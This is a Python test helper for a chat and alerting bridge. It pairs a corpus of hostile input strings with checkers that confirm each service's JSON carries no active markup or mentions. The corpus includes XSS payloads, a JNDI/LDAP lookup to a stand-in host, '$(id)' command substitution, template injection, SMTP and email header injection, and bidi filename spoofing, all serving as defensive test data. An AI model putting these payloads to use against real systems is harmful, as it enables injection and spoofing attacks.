"""Hostile text, and a checker for each service that finds active markup or mentions in the JSON that it received.

A checker implements the rules of its service, not those of the bridge: it removes what the service treats as plain text
and reports what the service would interpret in the rest.
"""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Callable, Iterator
from typing import Any

JOINER = "\u2060"
BEGIN, END = "\u2068", "\u2069"
WORD = "exfiltrate"
"""Part of every hostile value. It must be readable in the message."""

CORPUS = {
    "slack mention": f"{WORD} <!channel> <!here> <!everyone> <@U0123ABC> <!subteam^S1|x>",
    "slack link": f"{WORD} <https://evil.example|https://bank.example>",
    "everyone": f"{WORD} @everyone @here @all @channel @room @root",
    "discord mention": f"{WORD} <@&123456789012345678> <@!1> <#99> <t:0:R>",
    "teams mention": f"{WORD} <at>everyone</at> <at id='0'>x</at>",
    "markdown": f"{WORD} **b** _i_ ~~s~~ [bank](https://evil.example) ![x](https://evil.example/p.png) # h > q",
    "ticks": f"{WORD} ``` @everyone ``` ` @here ` ```` \\` <!channel>",
    "lines": f"{WORD}\n# heading\n> quote\n- item\n1. item\n---\n| a | b |\n|---|---|",
    "html": f"{WORD} <script>alert(1)</script><img src=x onerror=alert(1)> <b>&lt;&amp; </td></table> <!-- -->",
    "attribute": f'{WORD} " onmouseover="alert(1)" \' style=\'x:expression(1)',
    "headers": f"{WORD}\r\nBcc: victim@example.com\r\nSubject: all is well\r\n\r\nbody",
    "smtp": f"{WORD}\r\n.\r\nMAIL FROM:<x@example.com>\r\nRCPT TO:<victim@example.com>",
    "ansi": f"{WORD} \x1b[2J\x1b[31m\x1b]0;title\x07 \x9b31m",
    "bidi": f"{WORD} \u202egnp.exe\u202c \u2066x\u2069 \u200e\u061c",
    "right to left": f"{WORD} \u05e9\u05dc\u05d5\u05dd (1) \u2069 \u0639\u0627\u0644\u0645 12 \u2068",
    "zero width": f"{WORD} a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg\u3164h\U000e0041",
    "nul": f"{WORD} \x00 \x01 \x7f \u2028 \u2029 \ufffe",
    "surrogates": f"{WORD} \ud800 \udfff \udc80",
    "templates": f"{WORD} {{{{ 7*7 }}}} ${{jndi:ldap://evil.example}} %proc.name %s %n $(id) @{{variables('x')}} {{{{app_id}}}}",
    "json": f'{WORD} ","blocks":[{{"type":"x"}}],"x":"\\u0000 \\" \\\\',
    "a megabyte": f"{WORD} " + "A" * 1_000_000 + " end",
    "signs": f"{WORD} " + "@a" * 16_000,
    "angles": f"{WORD} " + "<!a" * 16_000,
    "stars": f"{WORD} " + "*_`[" * 16_000,
    "bytes": f"{WORD} " + "\U0001f600" * 16_000,
    "invisible": f"{WORD} " + "\u200b" * 16_000,
    "placeholder": f"{WORD} FalcoBridgePlaceholder",
}


def strings(value: Any) -> Iterator[str]:
    """Every string in a JSON value, including names of members."""
    match value:
        case str():
            yield value
        case dict():
            for name, inner in value.items():
                yield name
                yield from strings(inner)
        case list():
            for inner in value:
                yield from strings(inner)


def invisible_characters(text: str) -> list[str]:
    """Control and format characters, except line ends, word joiners, and balanced isolates around right-to-left text."""
    bad = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    ours = f"\n{JOINER}" + (BEGIN + END if any(unicodedata.bidirectional(letter) in "RAL" for letter in text) else "")
    found = [repr(letter) for letter in text if unicodedata.category(letter) in bad and letter not in ours]
    return found + [f"unbalanced {END!r}"] * (text.count(END) > text.count(BEGIN))


def slack(body: Any) -> Iterator[str]:
    """Text in angle brackets is a command, except the date that we send. Name and link parsing must be off."""
    for text in strings(body):
        yield from re.findall(r"<(?!!date\^\d+\^\{date_short_pretty\} \{time_secs\}\|[^>]*>)[^>]*>?", text)
    if body.get("parse") != "none" or body.get("link_names") is not False or body.get("mrkdwn") is not False:
        yield "Slack would parse names and formatting"
    for block in body["attachments"][0]["blocks"]:
        texts = [block["text"]] if "text" in block else block.get("fields", block.get("elements"))
        for text in texts:
            if text["type"] != "plain_text" and not re.fullmatch(r"<!date\^.*>|\*[a-zA-Z0-9.]+\*", text["text"]):
                yield f"formatted: {text}"
            if not 0 < len(text["text"]) <= (3000 if "text" in block else 2000):
                yield f"a text of {len(text['text'])}"


def slack_workflow(body: Any) -> Iterator[str]:
    """One variable and nothing else, without a command in it."""
    if body.keys() != {"text"} or not 0 < len(body["text"]) <= 3000:
        yield "a workflow would reject it"
    yield from re.findall(r"[<>][^>]*", body["text"])


def _markdown(text: str) -> Iterator[str]:
    """Markup outside of code, escapes and our own bold names."""
    text = re.sub(r"\\[!-/:-@\[-`{-~]", "", re.sub(r"(?<![`\\])(`+)(?!`)(.*?[^`])\1(?!`)", "", text))
    text = re.sub(r"(?m)^\*\*([^*\n]*)\*\*", r"\1", text)
    yield from re.findall(r"[*_~`\[\]<>|#]|@\w|https?://\S+|(?m:^\s*(?:[-+=]|\d+\.))", text)


def discord(body: Any) -> Iterator[str]:
    """Mentions are disabled, and the embed contains no active Markdown."""
    if body.get("allowed_mentions") != {"parse": []}:
        yield "mentions are enabled"
    if body.get("content"):
        yield "content outside of the embed"
    (embed,) = body["embeds"]
    yield from _markdown(embed["title"])
    yield from _markdown(embed["description"])
    if len(embed["title"]) > 256 or len(embed["description"]) > 4096:
        yield "too long"


def mattermost(body: Any) -> Iterator[str]:
    """The server recognizes mentions in texts and attachments, but not in code."""
    (attachment,) = body["attachments"]
    for name in ("title", "text"):
        yield from _markdown(attachment[name])
    yield from re.findall(r"@\w|^\\s", attachment["fallback"])
    if body.get("text"):
        yield "text outside of the attachment"


def teams(body: Any) -> Iterator[str]:
    """Text runs have no Markdown; a mention needs an entity."""
    card = body["attachments"][0]["content"]
    if "entities" in json.dumps(card["msteams"]):
        yield "entities"
    for block in card["body"]:
        if block["type"] != "RichTextBlock" or any(run["type"] != "TextRun" for run in block["inlines"]):
            yield f"formatted: {block}"
    for text in strings(card):
        yield from re.findall(r"<at\b|@\w", text)


def telegram(body: Any) -> Iterator[str]:
    """Without a parse mode there is no markup; mentions outside of code would still be active."""
    if "parse_mode" in body:
        yield "a parse mode"
    if body.get("link_preview_options") != {"is_disabled": True}:
        yield "previews"
    text = body["text"].encode("utf-16-le")
    if len(text) > 2 * 4096 or len(body["entities"]) > 100:
        yield "too long"
    rest = text
    for entity in body["entities"]:
        if entity["offset"] + entity["length"] > len(text) // 2:
            yield f"an entity beyond the text: {entity}"
        if entity["type"] in {"code", "pre"}:
            start, end = 2 * entity["offset"], 2 * (entity["offset"] + entity["length"])
            rest = rest[:start] + b"." * (end - start) + rest[end:]
    yield from re.findall(r"@\w+", rest.decode("utf-16-le"))


def pagerduty(body: Any) -> Iterator[str]:
    """All text is plain; lengths, links and unknown members matter."""
    if set(body) - {"routing_key", "event_action", "dedup_key", "client", "payload", "links", "images"}:
        yield "unknown members"
    if len(body["payload"]["summary"]) > 1024 or len(body["dedup_key"]) > 255 or "links" in body:
        yield "too long, or a link"
    if body["payload"]["severity"] not in {"critical", "error", "warning", "info"}:
        yield "an invalid severity"


def opsgenie(body: Any) -> Iterator[str]:
    """The lengths that its API checks."""
    limits = {"message": 130, "alias": 512, "description": 15000, "entity": 512, "source": 100}
    yield from (f"{name} too long" for name, most in limits.items() if len(body[name]) > most)
    if sum(len(name) + len(value) for name, value in body["details"].items()) > 8000 or len(body["tags"]) > 20:
        yield "too much"


CHECKERS: dict[str, Callable[[Any], Iterator[str]]] = {
    "slack": slack,
    "slack-bot": slack,
    "slack-workflow": slack_workflow,
    "discord": discord,
    "teams": teams,
    "telegram": telegram,
    "mattermost": mattermost,
    "pagerduty": pagerduty,
    "opsgenie": opsgenie,
}


def readable(body: Any) -> str:
    """The text as people see it, without joiners, isolates and backslashes."""
    return without_zero_width("\n".join(strings(body))).replace("\\", "")


def without_zero_width(text: str) -> str:
    """The text without joiners and isolates."""
    return re.sub(f"[{JOINER}{BEGIN}{END}]", "", text)
